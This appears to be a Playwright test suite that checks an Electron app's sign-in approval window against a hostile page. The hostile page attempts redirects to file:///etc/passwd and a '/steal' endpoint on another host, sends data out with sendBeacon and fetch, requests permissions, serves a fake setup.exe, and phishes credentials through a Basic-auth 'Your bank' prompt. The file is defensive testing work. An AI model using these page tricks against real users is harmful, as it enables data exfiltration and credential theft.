import { expect } from '@playwright/test';
import {
  approve,
  begin,
  expectNothingGained,
  runInPage,
  signInState,
  status,
  test,
  waitForStep,
  waitUntilIdle,
} from './approval-story.ts';
import { page } from './hostile-service.ts';
import type { HostileService } from './hostile-service.ts';
import type { ProgramRun } from './launch.ts';
import { recordedCalls } from './story.ts';

/* Approval pages that want more than they are given. Each gains nothing, and the app works afterwards. */

const targets = {
  'plain http of another host': () => 'http://catalogue.example/',
  'a file': () => 'file:///etc/passwd',
  'a data address': () => 'data:text/html,<title>https://www.catalogue.example</title>',
  'another host': (elsewhere: HostileService) => `${elsewhere.origin}/steal`,
  'a scheme of the app': () => 'marquee://signed-in?approved=true',
} as const;

const answers = async (run: ProgramRun, call: string): Promise<unknown[]> =>
  (await recordedCalls(run, call)).map(({ answer }) => answer);

for (const [what, where] of Object.entries(targets)) {
  const tag = what === 'another host' || what === 'a file' ? '@gate' : [];
  test(`an approval page cannot lead to ${what}`, { tag }, async ({ service, elsewhere, launchApproval }) => {
    const to = where(elsewhere);
    const run = await launchApproval(service.origin);
    // The window would stay empty, because nothing was shown before the redirect.
    service.serve((_request, response) => {
      response.writeHead(302, { Location: to });
      response.end();
    });
    await run.askProgram('begin');
    await waitForStep(run, 'ended');
    expect(await signInState(run)).toMatchObject({
      failure: { code: expect.stringMatching(/badResponse|offline/) },
    });

    // A page that is shown tries it by itself, by a link, by a form and by a redirect.
    service.serve((request, response) => {
      if (request.url?.startsWith('/go')) {
        response.writeHead(302, { Location: to });
        response.end();
      } else page(`<a href="${to}">go</a><form action="${to}" method="post"></form>`)(request, response);
    });
    await begin(run, service);
    const shown = (await status(run)).address;
    for (const code of [
      `location.href = ${JSON.stringify(to)}`,
      `document.querySelector('a').click()`,
      `document.querySelector('form').submit()`,
      `location.href = '/go'`,
    ]) {
      await runInPage(run, `${code}; 0`);
      await waitUntilIdle(run);
      const { title, address, windows } = await status(run);
      expect({ title, windows }).toEqual({ title: service.origin, windows: 2 });
      // Chromium shows an error page after a redirect to a file or to data; Electron names it by the failed address.
      if (address === shown) continue;
      expect(['chrome-error://chromewebdata/', `${service.origin}/go`]).toContain(address);
      expect(await runInPage(run, 'location.href')).toBe('chrome-error://chromewebdata/');
    }
    await expectNothingGained(run, service);
    expect(elsewhere.visits).toEqual([]);
  });
}

test('an approval page opens no window and shows no dialog', async ({
  service,
  elsewhere,
  launchApproval,
}) => {
  const run = await launchApproval(service.origin);
  service.serve(page('<a target="_blank" href="/other">other</a>'));
  await begin(run, service);
  const opened = await runInPage<number>(
    run,
    `let opened = 0;
    for (let index = 0; index < 12; index += 1) {
      if (window.open(${JSON.stringify(`${elsewhere.origin}/popup`)} + index, '_blank', 'popup') !== null) opened += 1;
    }
    document.querySelector('a').click();
    for (let index = 0; index < 5; index += 1) { alert('Your session has expired'); confirm('Sure?'); }
    opened`,
  );
  await expect.poll(async () => (await answers(run, 'window.open')).length).toBeGreaterThanOrEqual(opened);
  await waitUntilIdle(run);
  expect((await status(run)).windows).toBe(2);
  const decided = await answers(run, 'window.open');
  expect(decided.length).toBeGreaterThan(0);
  expect(decided.filter((answer) => answer !== 'deny')).toEqual([]);
  await expectNothingGained(run, service);
  expect(elsewhere.visits).toEqual([]);
});

test('an approval page downloads no file', async ({ service, launchApproval }) => {
  const run = await launchApproval(service.origin);
  service.serve((request, response) => {
    if (!request.url?.startsWith('/setup'))
      return page('<a href="/setup.exe" download>now</a>')(request, response);
    response.writeHead(200, {
      'Content-Type': 'application/octet-stream',
      'Content-Disposition': 'attachment; filename="setup.exe"',
    });
    response.end('MZ');
  });
  await begin(run, service);
  await runInPage(run, `document.querySelector('a').click()`);
  await runInPage(run, `location.href = '/setup'; 0`);
  await expect.poll(async () => (await answers(run, 'download')).length).toBeGreaterThan(0);
  expect(await answers(run, 'download')).not.toContain('allowed');
  await expectNothingGained(run, service);
});

test('an approval page makes no request to another origin, except for a picture', async ({
  service,
  elsewhere,
  launchApproval,
}) => {
  const run = await launchApproval(service.origin, service.origin, elsewhere.origin);
  service.serve(page('<p>Approve</p>'));
  await begin(run, service);
  const to = elsewhere.origin;
  await runInPage(
    run,
    `(async () => {
      const add = (name, facts) => document.head.append(Object.assign(document.createElement(name), facts));
      add('script', { src: '${to}/script' });
      add('link', { rel: 'stylesheet', href: '${to}/style' });
      add('link', { rel: 'prefetch', href: '${to}/prefetch' });
      navigator.sendBeacon('${to}/beacon', 'secret');
      new EventSource('${to}/events');
      await fetch('${to}/fetch', { mode: 'no-cors' }).catch(() => undefined);
      await new Promise((resolve) => {
        const picture = new Image();
        picture.onload = picture.onerror = resolve;
        picture.src = '${to}/picture';
      });
    })()`,
  );
  await waitUntilIdle(run);
  await expectNothingGained(run, service);
  expect(elsewhere.visits).toEqual(['GET /picture']);
});

test('an approval page gets no permission', async ({ service, launchApproval }) => {
  const run = await launchApproval(service.origin);
  service.serve(page(''));
  await begin(run, service);
  const answers = await runInPage(
    run,
    `(async () => {
      const query = async (name) => (await navigator.permissions.query({ name })).state;
      const denied = (request) => request.then(() => 'granted', (error) => error.name);
      const position = new Promise((resolve, reject) =>
        navigator.geolocation.getCurrentPosition(resolve, () => reject(new DOMException('', 'NotAllowedError'))));
      return {
        queried: await Promise.all(['notifications', 'geolocation', 'camera', 'microphone', 'clipboard-read', 'midi'].map(query)),
        notification: await Notification.requestPermission(),
        media: await denied(navigator.mediaDevices.getUserMedia({ video: true, audio: true })),
        position: await denied(position),
        clipboard: await denied(navigator.clipboard.readText()),
        devices: [...(await navigator.usb.getDevices()), ...(await navigator.hid.getDevices())].length,
      };
    })()`,
  );
  expect(answers).toEqual({
    queried: Array<string>(6).fill('denied'),
    notification: 'denied',
    // Chromium looks for a camera before it requests the permission.
    media: expect.stringMatching(/^Not(Allowed|Found)Error$/),
    position: 'NotAllowedError',
    clipboard: 'NotAllowedError',
    devices: 0,
  });
  await expectNothingGained(run, service);
});

test('an approval page that never finishes loading times out', async ({ service, launchApproval }) => {
  const run = await launchApproval(service.origin);
  service.serve((_request, response) => {
    response.writeHead(200, { 'Content-Type': 'text/html' });
    response.write('<!doctype html>');
  });
  await run.askProgram('speed', 200);
  await run.askProgram('begin');
  await waitForStep(run, 'ended');
  expect(await signInState(run)).toMatchObject({ step: 'ended', why: 'timedOut' });
  // The honest page afterwards needs its time.
  await run.askProgram('speed', 1);
  await expectNothingGained(run, service);
});

test('an approval page cannot keep its window open', async ({ service, launchApproval }) => {
  const run = await launchApproval(service.origin);
  service.serve(
    page(
      `<script>addEventListener('beforeunload', (event) => { event.preventDefault(); event.returnValue = 'Stay'; });` +
        `globalThis.holds = true</script>`,
    ),
  );
  // The app waits 2 s for a page to close, and on a busy machine Chromium may run beforeunload later than that. So the
  // user tries again, but a page must never keep its window.
  await expect(async () => {
    await begin(run, service);
    // The address is known before the script of the page has run.
    await expect.poll(() => runInPage(run, `document.body?.click(); globalThis.holds === true`)).toBe(true);
    await run.askProgram('close');
    await waitForStep(run, 'ended');
    expect(await signInState(run)).toMatchObject({ why: 'cancelled' });
    expect(await answers(run, 'beforeunload')).toContain('overruled');
  }).toPass({ timeout: 120_000 });
  expect(await answers(run, 'beforeunload')).not.toContain('kept');
  // An endless script cannot keep the window open either, whether the user or the app closes it.
  await begin(run, service);
  void runInPage(run, `for (;;) {}`).catch(() => undefined);
  await run.askProgram('close');
  await waitForStep(run, 'ended');
  await begin(run, service);
  void runInPage(run, `for (;;) {}`).catch(() => undefined);
  await expectNothingGained(run, service);
});

test('an approval page loads no frame, in which an approval could be hidden', async ({
  service,
  elsewhere,
  launchApproval,
}) => {
  const run = await launchApproval(service.origin);
  service.serve(
    page(
      `<iframe src="/framed/allow"></iframe><iframe src="${elsewhere.origin}/framed"></iframe>` +
        `<iframe srcdoc="<iframe src='/framed/again'></iframe>"></iframe>`,
    ),
  );
  await begin(run, service);
  await runInPage(
    run,
    `const frame = document.createElement('iframe'); frame.src = '/framed/late'; document.body.append(frame); 0`,
  );
  await waitUntilIdle(run);
  // The exchange ahead of the page.
  await expect.poll(() => service.exchanges()).toBe(1);
  await expectNothingGained(run, service);
  expect(service.visits.filter((visit) => visit.includes('framed'))).toEqual([]);
  expect(elsewhere.visits).toEqual([]);
});

test('a replayed callback is exchanged once at most', async ({ service, launchApproval }) => {
  const run = await launchApproval(service.origin);
  await begin(run, service);
  await approve(run);
  await waitForStep(run, 'signedIn');
  await run.askProgram('signOut');
  const replayed = (service.visits.findLast((visit) => visit.includes('/allow')) ?? '').replace('GET ', '');
  expect(replayed).toContain('/allow');

  const before = service.exchanges();
  service.serve(page('Approved'));
  // The app pauses between two exchanges; here the pause is longer than the story.
  await run.askProgram('speed', 0.001);
  await begin(run, service);
  const shows = (part: string) => expect.poll(async () => (await status(run)).address).toContain(part);
  for (let index = 0; index < 8; index += 1) {
    await runInPage(run, `location.href = ${JSON.stringify(`${replayed}?approved=true&again=${index}`)}; 0`);
    await shows(`again=${index}`);
    const pushed = `/authenticate/allow?request_token=x&approved=true&pushed=${index}`;
    await runInPage(run, `history.pushState(null, '', '${pushed}')`);
    await shows(`pushed=${index}`);
  }
  // One goes ahead of the page.
  await expect.poll(() => service.exchanges()).toBe(before + 2);
  await waitForStep(run, 'awaiting');
  await expectNothingGained(run, service);
  // Two more exchanges are those of the honest page.
  expect(service.exchanges()).toBe(before + 4);
});

test('an approval page gets no name and no password', async ({ service, launchApproval }) => {
  const run = await launchApproval(service.origin);
  service.serve((request, response) => {
    response.setHeader('WWW-Authenticate', 'Basic realm="Your bank"');
    page('No', 401)(request, response);
  });
  await begin(run, service);
  expect(service.credentials.filter((line) => !line.endsWith('|'))).toEqual([]);
  await expectNothingGained(run, service);
});
